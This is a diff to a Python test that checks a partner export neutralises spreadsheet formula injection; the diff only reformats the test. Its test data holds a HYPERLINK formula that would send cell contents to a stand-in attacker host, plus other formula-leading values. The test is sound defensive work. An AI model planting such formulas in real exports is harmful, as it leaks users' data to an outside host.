@@ -116,14 +116,18 @@ def test_export_is_filtered_not_paginated(world, login):
 
 
 def test_export_neutralises_spreadsheet_formulas(world, login):
-    make_partner('=HYPERLINK("http://evil.example/?x="&A1,"Click")', legal_name="+SUM(A1:A9)", city="@cmd",
-                 tax_id="-2+3")
+    make_partner(
+        '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+        legal_name="+SUM(A1:A9)",
+        city="@cmd",
+        tax_id="-2+3",
+    )
     make_partner("Tabby", legal_name="\t=1+1", city="\r=1+1")
     make_partner("Plain - Name", legal_name="O'Brien & Sons", city="Köln")
     client = login(world.cam)
     by_name = {r["name"]: r for r in export(client)}
 
-    evil = by_name["'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")"]
+    evil = by_name['\'=HYPERLINK("http://evil.example/?x="&A1,"Click")']
     assert evil["legal_name"] == "'+SUM(A1:A9)"
     assert evil["city"] == "'@cmd"
     assert evil["tax_id"] == "'-2+3"
